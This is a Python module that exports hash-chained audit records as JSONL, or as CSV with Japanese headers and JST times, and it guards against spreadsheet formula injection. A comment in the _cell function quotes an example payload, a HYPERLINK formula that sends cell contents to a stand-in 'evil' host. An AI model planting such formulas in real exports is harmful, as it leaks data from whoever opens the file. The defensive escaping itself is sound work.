"""Export audit records as JSONL (for machines and auditors) or CSV (for Excel), streaming.

JSONL keeps UTC and the chain fields, so an export of the whole chain can be verified again
without the database (`records_from_jsonl` + `chain.verify`). CSV is for people: UTF-8 with a
BOM so Excel detects the encoding, Japanese headers, times in Japan Standard Time (+09:00).
Both write record by record and never hold the export in memory.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta, timezone
from typing import Any, TextIO

from sekisho.audit.chain import StoredRecord, actor_of, canonical_dumps

# Japan has no daylight saving time: a fixed offset needs no time-zone database.
JST = timezone(timedelta(hours=9), "JST")
BOM = "\ufeff"

# (Japanese header, English meaning, body key); the remaining fields go into 詳細 as JSON.
CSV_COLUMNS: tuple[tuple[str, str, str], ...] = (
    ("連番", "seq", "seq"),
    ("日時(日本時間)", "time (JST, +09:00)", "occurred_at"),
    ("種別", "event type", "event_type"),
    ("操作者", "actor", "actor"),
    ("送信元IP", "source IP", "source_ip"),
    ("ルート", "route", "route"),
    ("判定", "decision", "decision"),
    ("理由", "reasons (';'-separated)", "reasons"),
    ("メソッド", "HTTP method", "method"),
    ("パス", "path", "path"),
    ("状態コード", "HTTP status", "status"),
    ("セッション", "session (short id)", "session"),
    ("詳細", "other fields (JSON)", "details"),
    ("ハッシュ", "record hash", "hash"),
)
_SPREAD = {key for _ja, _en, key in CSV_COLUMNS} - {"seq", "hash", "details", "actor"}
# Excel treats a cell starting with one of these as a formula.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def jsonl_line(record: StoredRecord) -> str:
    """One record as a canonical JSON line: seq, prev_hash, hash and the event itself."""
    return canonical_dumps({"seq": record.seq, "prev_hash": record.prev_hash,
                            "hash": record.hash, "event": json.loads(record.body)})


def write_jsonl(records: Iterable[StoredRecord], out: TextIO) -> int:
    count = 0
    for record in records:
        out.write(jsonl_line(record) + "\n")
        count += 1
    return count


def records_from_jsonl(lines: Iterable[str]) -> Iterator[StoredRecord]:
    """Read a JSONL export back as records; the body is the event re-serialised canonically,
    which reproduces the stored body byte for byte."""
    for line in lines:
        if not line.strip():
            continue
        document = json.loads(line)
        yield StoredRecord(int(document["seq"]), canonical_dumps(document["event"]),
                           str(document["prev_hash"]), str(document["hash"]))


def _cell(value: Any) -> str:
    if isinstance(value, (list, tuple)):
        value = ";".join(str(part) for part in value)
    elif isinstance(value, bool):
        value = "true" if value else "false"
    elif isinstance(value, (int, float)):
        return str(value)
    text = str(value)
    # Defence against CSV/formula injection: a user name or path typed by an attacker such as
    # `=HYPERLINK("http://evil/?"&A1)` must show as text in Excel, never run as a formula.
    if text.startswith(_FORMULA_START):
        return "'" + text
    return text


def _jst(occurred_at: str) -> str:
    moment = datetime.strptime(occurred_at, "%Y-%m-%dT%H:%M:%S.%fZ").replace(
        tzinfo=UTC)
    return moment.astimezone(JST).isoformat(timespec="microseconds")


def csv_row(record: StoredRecord) -> list[str]:
    document: dict[str, Any] = json.loads(record.body)
    details = {key: value for key, value in document.items() if key not in _SPREAD}
    values: dict[str, Any] = {
        **document,
        "seq": record.seq,
        "hash": record.hash,
        "actor": actor_of(document),
        "occurred_at": _jst(str(document.get("occurred_at", ""))),
        "details": canonical_dumps(details) if details else "",
    }
    return [_cell(values.get(key, "")) for _ja, _en, key in CSV_COLUMNS]


def write_csv(records: Iterable[StoredRecord], out: TextIO) -> int:
    """Write the BOM, a Japanese header row, then one row per record; return the row count."""
    out.write(BOM)
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([ja for ja, _en, _key in CSV_COLUMNS])
    count = 0
    for record in records:
        writer.writerow(csv_row(record))
        count += 1
    return count
